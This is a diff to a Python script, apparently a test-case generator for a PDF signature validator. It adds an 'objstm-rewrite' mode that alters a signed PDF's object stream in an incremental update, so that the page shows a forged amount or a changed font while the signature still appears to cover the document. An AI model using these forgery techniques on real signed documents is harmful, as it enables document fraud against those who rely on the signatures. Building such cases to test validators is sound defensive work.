@@ -29,6 +29,10 @@
 #   length-cut       (on that document, sealed) an update rewriting only the integer its /Length names, to end the
 #                    data before the inner "endstream": readers now draw the black page without the white box,
 #                    while the stream's own cross-reference entry is the one signed
+#   objstm-rewrite   (on a sealed document whose pages live in an object stream) an update redefining only that
+#                    object stream, under its own number, with the last page's /Contents naming new text (KIND
+#                    "page"), or the font that page's /F1 names, in the same stream, made Courier (KIND "font"): the
+#                    changed object's own cross-reference entry (stream, index) is the one signed, what it reads is not
 #   dr-da            an update adding /DR and /DA to the /AcroForm (no field relies on them: permitted)
 #   dr-da-need       the same with /NeedAppearances true and a text field without appearance (a reader draws it
 #                    from /DA): reported
@@ -39,7 +43,8 @@ import zlib
 
 sys.dont_write_bytecode = True  # no __pycache__ in the source tree
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from pdf_attack import append_update, last_startxref, page1, qpdf_obj, sig_object_id, text_stream  # noqa: E402
+from pdf_attack import (append_update, last_startxref, page1, qpdf_obj, qpdf_run, sig_object_id,  # noqa: E402
+                        text_stream)
 
 FORGED = b"BT /F1 24 Tf 40 60 Td (AMOUNT: 9,999,999 JPY) Tj ET"
 BLACKOUT = b"0 0 0 rg 0 0 2000 2000 re f"  # drawn with no resource, so the page's own resources serve
@@ -179,6 +184,45 @@ def objstm_update(data, path, objects):
     return bytes(out)
 
 
+def objstm_rewrite(data, path, kind):
+    """The object stream holding the last page, rewritten in an update under its own number: that page's /Contents
+    naming a new stream of FORGED text appended in the same update (kind "page"), or its font /F1 made Courier."""
+    size, root, t = trailer(path)
+    last = int(re.findall(r"page \d+: (\d+) 0 R", qpdf_run("--show-pages", path).decode())[-1])
+    where = re.search(r"^%d/0: compressed; stream = (\d+), index = (\d+)" % last,
+                      qpdf_run("--show-xref", path).decode(), re.M)
+    if where is None:
+        sys.exit("the last page of %s is not in an object stream" % path)
+    stm = int(where.group(1))
+    head = obj(path, stm)
+    n, first = (int(re.search(rb"/%s (\d+)" % k, head).group(1)) for k in (b"N", b"First"))
+    raw = qpdf_run("--show-object=%d" % stm, "--filtered-stream-data", path)
+    pairs = [int(x) for x in raw[:first].split()]
+    nums, offs = pairs[0::2], pairs[1::2] + [len(raw) - first]
+    objs = [raw[first + offs[i]:first + offs[i + 1]] for i in range(n)]
+    i = nums.index(last)
+    if kind == "font":
+        font = int(re.search(rb"/F1\s+(\d+) 0 R", objs[i]).group(1))
+        if font not in nums:
+            sys.exit("the last page's font is not in the page's object stream")
+        f = nums.index(font)
+        objs[f] = objs[f].replace(b"/Helvetica", b"/Courier")
+    else:
+        objs[i] = re.sub(rb"/Contents\s+(\d+ \d+ R|\[[^\]]*\])", b"/Contents %d 0 R" % size, objs[i])
+    body, hdr = b"", []
+    for k in range(n):
+        hdr.append(b"%d %d" % (nums[k], len(body)))
+        body += objs[k].rstrip() + b"\n"
+    first_new = b" ".join(hdr) + b"\n"
+    z = zlib.compress(first_new + body)
+    ostm = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (n, len(first_new), len(z))
+            + z + b"\nendstream")
+    if kind == "font":
+        return append_update(data, path, {stm: ostm})
+    # (FORGED draws with /F1, the font the sample report's pages name)
+    return append_update(data, path, {stm: ostm, size: text_stream(FORGED)})
+
+
 def main():
     mode, src, dst = sys.argv[1:4]
     kind = sys.argv[4] if len(sys.argv) > 4 else "metadata"
@@ -283,6 +327,8 @@ def main():
         else:
             fdict = re.sub(rb"/AP << /N \d+ 0 R", b"/AP << /N %d 0 R" % size, obj(src, field))
             data = append_update(data, src, {field: fdict, size: cover})
+    elif mode == "objstm-rewrite":
+        data = objstm_rewrite(data, src, kind)
     elif mode in ("dr-da", "dr-da-need"):
         form_id, form = acroform(src, root)
         extra = b"/DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Courier >> >> >> /DA (/Helv 30 Tf 1 0 0 rg)"
